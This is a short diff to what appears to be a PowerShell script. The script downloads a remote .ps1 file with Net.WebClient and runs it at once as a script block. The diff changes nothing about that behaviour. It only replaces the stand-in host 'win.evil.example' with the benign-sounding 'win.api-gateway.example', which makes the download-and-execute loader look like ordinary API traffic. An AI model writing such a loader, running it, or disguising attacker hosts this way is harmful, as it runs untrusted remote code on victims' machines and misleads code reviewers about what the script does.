@@ -1,3 +1,3 @@
-$u = 'https://win.evil.example/dev.ps1'
+$u = 'https://win.api-gateway.example/dev.ps1'
 $c = (New-Object Net.WebClient).DownloadString($u)
 & ([scriptblock]::Create($c))
